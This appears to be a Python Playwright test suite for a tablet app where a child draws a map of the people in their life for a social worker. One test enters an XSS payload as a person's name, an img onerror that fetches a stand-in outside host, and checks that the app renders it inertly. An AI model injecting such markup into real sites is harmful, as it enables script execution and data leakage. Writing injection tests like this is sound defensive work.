"""A child draws on a tablet: the whole script of practice 6.1, by finger and by keyboard, and nothing of it is lost."""

from __future__ import annotations

import json
import os
import re
import signal
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, expect

from graphmodel.maps import network_of
from graphmodel.store.connection import Graph, GraphSettings
from tests.browser.place import SANA, Place
from tests.browser.script import draw_twelve_people
from tests.browser.sly import ELSEWHERE, SLY
from tests.browser.tablet import BOXES, Tablet
from tests.scenarios import TODAY

pytestmark = pytest.mark.browser

OUTSIDE = re.compile(r"^(?!http://127\.0\.0\.1:|ws://127\.0\.0\.1:|data:|blob:)")


@pytest.fixture
def tablet(page: Page, place: Place) -> Tablet:
    page.set_viewport_size({"width": 1180, "height": 820})
    return Tablet(page).open(place.address)


def test_a_child_draws_twelve_people_in_few_taps_and_without_a_form(tablet: Tablet, place: Place) -> None:
    draw_twelve_people(tablet)
    drawn = place.drawn()
    assert tablet.taps <= 45
    assert {"Nan", "Rufus", "Grandad Ray", "the lady with the red car"} <= drawn.keys()
    assert (drawn["Idris"].enough, drawn["Idris"].words, drawn["Idris"].read_back) == (
        "too_little",
        "once a week like before",
        True,
    )
    assert drawn["Nan"].closeness == 4
    assert drawn["the lady with the red car"].part == "helpers"


def test_no_name_lies_over_another_or_over_somebody(tablet: Tablet) -> None:
    boxes = tablet.page.evaluate(BOXES)
    meets = [
        (a, b)
        for at, a in enumerate(boxes["names"])
        for b in [*boxes["names"][at + 1 :], *boxes["people"]]
        if a[0] < b[0] + b[2] and b[0] < a[0] + a[2] and a[1] < b[1] + b[3] and b[1] < a[1] + a[3]
    ]
    assert len(boxes["names"]) >= 12
    assert meets == []


def test_the_map_is_where_it_was_after_the_page_is_loaded_again(tablet: Tablet, place: Place) -> None:
    before = _where(tablet)
    tablet.open(place.address)
    assert _where(tablet) == before


def _where(tablet: Tablet) -> list[str]:
    return [str(text) for text in tablet.map.locator("svg.map [data-person]").evaluate_all(
        "(all) => all.map((one) => `${one.dataset.person} ${one.dataset.x} ${one.dataset.y}`).sort()"
    )]  # fmt: skip


def test_everything_can_be_done_with_keys(tablet: Tablet, place: Place) -> None:
    keys = tablet.page.keyboard
    tablet.card("Joe").focus()
    keys.press("Enter")
    for key in ("ArrowUp", "ArrowUp", "ArrowLeft"):
        keys.press(key)
    keys.press("Enter")
    expect(tablet.person("Joe")).to_have_count(1)
    tablet.person("Joe").focus()
    keys.press("l")
    keys.press("g")
    tablet.kept()
    joe = place.drawn()["Joe"]
    assert (joe.placed, joe.line, joe.support) == (True, "strong", "gives_me")
    tablet.map.locator("[data-focus=undo]").focus()
    keys.press("Enter")
    tablet.kept()
    assert place.drawn()["Joe"].support is None
    tablet.map.locator("[data-focus=list]").focus()
    keys.press("Enter")
    tablet.map.get_by_label("Joe: Where").select_option("3")
    tablet.kept()
    assert place.drawn()["Joe"].closeness == 3


def test_names_that_are_markup_are_shown_as_typed_on_the_map_and_fetch_nothing(
    page: Page, place: Place, asked_for: list[str]
) -> None:
    tablet = Tablet(page).open(place.address)
    evil = f"<img src=x onerror=\"fetch('http://{ELSEWHERE}/q')\">"
    tablet.skip()
    tablet.name(evil)
    tablet.drag("<img", (0.75, 0.85))
    tablet.step("words")
    tablet.map.locator("textarea").fill(SLY)
    tablet.map.locator('[data-focus="keep words"]').click()
    tablet.kept()
    tablet.map.locator("[data-focus=list]").click()
    expect(tablet.map.locator("tbody th", has_text="<img")).to_have_count(1)
    assert tablet.map.locator("img").count() == 0
    assert [address for address in asked_for if OUTSIDE.match(address)] == []
    tablet.map.locator("[data-focus=list]").click()
    for _ in range(6):
        if tablet.map.locator("[data-focus=undo]").is_disabled():
            break
        tablet.map.locator("[data-focus=undo]").click()
    tablet.kept()
    assert not any("<img" in name for name in place.drawn())


TAKEN_BACK = """() => {
  const Book = [...globalThis.kinmapBooks.values()][0].constructor, book = new Book("test"), sent = [];
  Object.assign(book, { words: { added: "{name}", undone: "", redone: "" }, cards: [] });
  book.line = (batch) => sent.push(JSON.stringify(batch.gestures));
  const first = book.name("Kit", "anyone");
  book.tell(first, { closeness: 3 }, "");
  book.undo(); book.undo(); book.redo(); book.redo();
  clearTimeout(book.timer);
  const same = sent[0] === JSON.stringify(book.sent.gestures);
  return { same, waits: book.pending.map((one) => [one.does, one.person === first]) };
}"""


def test_who_is_taken_back_and_brought_back_while_the_line_is_down_changes_nothing_that_waits(tablet: Tablet) -> None:
    told = tablet.page.evaluate(TAKEN_BACK)
    assert told["same"]
    assert told["waits"] == [["say", True], ["say", True], ["take_off", True], ["add", False], ["say", False]]


def test_nothing_is_lost_when_the_app_is_killed_in_the_middle(tablet: Tablet, place: Place) -> None:
    place.kill()
    tablet.drag("Nan", (0.55, 0.1))
    tablet.tap(tablet.person("Nan"))
    tablet.choose("mixed")
    assert tablet.waiting > 0
    expect(tablet.map.get_by_text("The wifi is gone.")).to_be_visible(timeout=30_000)
    place.start()
    tablet.kept(120)
    nan = place.drawn()["Nan"]
    assert (nan.line, nan.closeness) == ("mixed", 1)


def test_nothing_is_lost_when_the_graph_is_killed_in_the_middle(tablet: Tablet, place: Place) -> None:
    _kill_graph(place.home)
    tablet.drag("Dee", (0.3, 0.3))
    tablet.kept(120)
    assert place.drawn()["Dee"].placed


def _kill_graph(home: Path) -> None:
    notes = [json.loads(path.read_text()) for path in (home / "graph").glob("*.json")]
    pids = [note["pid"] for note in notes if "pid" in note]
    assert pids
    os.kill(pids[0], signal.SIGKILL)


def test_two_tablets_on_one_map_come_to_the_same(tablet: Tablet, place: Place, browser: Browser) -> None:
    other = Tablet(browser.new_page(viewport={"width": 1180, "height": 820})).open(place.address)
    try:
        tablet.drag("Finn", (0.3, 0.6))
        other.skip()
        other.name("Wren")
        other.drag("Wren", (0.75, 0.35))
        tablet.kept()
        other.kept()
        expect(other.person("Finn")).to_have_count(1, timeout=30_000)
        for _ in range(30):  # each asks every few seconds whether the other has drawn
            if _where(tablet) == _where(other):
                break
            tablet.page.wait_for_timeout(1_000)
        assert _where(tablet) == _where(other)
    finally:
        other.page.close()


SCRIBBLE = Path(__file__).with_name("scribble.js").read_text(encoding="utf-8")
SCRIBBLES_S = 3600 if os.environ.get("KINMAP_SOAK") == "1" else 8


def test_two_tablets_that_scribble_on_one_map_end_the_same_and_as_the_record_says(
    tablet: Tablet, place: Place, browser: Browser
) -> None:
    other = Tablet(browser.new_page(viewport={"width": 1180, "height": 820})).open(place.address)
    try:
        for each, seed in ((tablet, 7), (other, 11)):
            each.page.evaluate(f"(told) => {{ globalThis.scribbled = ({SCRIBBLE})(told); }}", [SCRIBBLES_S, seed])
        for each in (tablet, other):
            each.page.set_default_timeout((SCRIBBLES_S + 120) * 1000)
            assert each.page.evaluate("() => globalThis.scribbled") > 3
            each.kept(120)
        for each in (tablet, other):
            each.open(place.address)
        assert _where(tablet) == _where(other)
        on_record = {one.person for one in place.drawn().values() if one.placed}
        assert len(on_record) == tablet.map.locator("svg.map [data-person]").count()
    finally:
        other.page.close()


def test_the_child_s_screen_has_no_serious_finding_of_axe_on_a_tablet_small_and_narrow(tablet: Tablet) -> None:
    for width, height in ((1180, 820), (590, 410), (320, 640)):
        tablet.page.set_viewport_size({"width": width, "height": height})
        tablet.page.wait_for_timeout(300)
        found = Axe().run(tablet.page)
        serious = [one["id"] for one in found.response["violations"] if one["impact"] in ("serious", "critical")]
        assert serious == [], (width, [(one["id"], one["nodes"][0]["html"][:200]) for one in found.response["violations"]])


def test_no_other_child_and_no_word_of_our_trade_is_on_the_child_s_screen(tablet: Tablet) -> None:
    words = tablet.page.locator("body").inner_text() + tablet.map.inner_text()
    for unsaid in ("Leo", "Noor", "risk", "placement", "contact centre", "Team", "My children", "not assessed"):
        assert unsaid not in words


def test_finishing_shows_the_child_a_picture_and_the_worker_what_is_owed(tablet: Tablet, place: Place) -> None:
    page = tablet.page
    tablet.tap(tablet.map.locator("[data-focus=finish]"))
    expect(page.get_by_role("heading", name="Thank you, Ami")).to_be_visible(timeout=60_000)
    expect(page.locator(".sheet svg")).to_be_visible(timeout=60_000)
    expect(page.get_by_test_id("stStatusWidget")).to_have_count(0)  # what is about to be drawn anew takes no click
    page.get_by_role("button", name="For your social worker").click()
    expect(page.get_by_text("To answer")).to_be_visible(timeout=60_000)
    expect(page.get_by_text("Idris").first).to_be_visible()
    page.get_by_role("button", name="Save the note and send the proposals").click()
    expect(page.get_by_text("Saved.", exact=False)).to_be_visible(timeout=60_000)
    assert place.drawn() == {}  # the next map is a new one


HOLD = """() => { const book = [...globalThis.kinmapBooks.values()].pop();
  let line = book.line;
  Object.defineProperty(book, "line", { configurable: true, get: () => () => {}, set: (other) => { line = other; } });
  globalThis.letGo = () => { delete book.line; book.line = line; }; }"""
SENT_ALL = "() => [...globalThis.kinmapBooks.values()].every((book) => book.waiting === 0)"


def test_what_one_tablet_has_not_sent_when_another_finishes_the_map_is_kept_on_that_map(
    tablet: Tablet, place: Place, browser: Browser
) -> None:
    other = Tablet(browser.new_page(viewport={"width": 1180, "height": 820})).open(place.address)
    try:
        other.skip()
        other.name("Kit")
        other.kept()
        tablet.open(place.address)
        tablet.page.evaluate(HOLD)
        tablet.skip()
        tablet.name("Zola")
        expect(tablet.card("Zola")).to_be_visible()
        other.tap(other.map.locator("[data-focus=finish]"))
        expect(other.page.get_by_role("heading", name="Thank you, Ami")).to_be_visible(timeout=60_000)
        expect(tablet.page.get_by_role("heading", name="Thank you, Ami")).to_be_visible(timeout=60_000)  # not an empty map
        tablet.page.evaluate("() => globalThis.letGo()")
        tablet.page.wait_for_function(SENT_ALL, timeout=60_000)
        with Graph.open(GraphSettings(place.home)) as graph:
            assert "Zola" in {one.name for one in network_of(graph, SANA, "amira", TODAY).people}
        tablet.open(place.address)  # and begins a new one
        tablet.skip()
        tablet.name("Moss")
        tablet.kept()
        expect(tablet.card("Moss")).to_be_visible()
    finally:
        other.page.close()
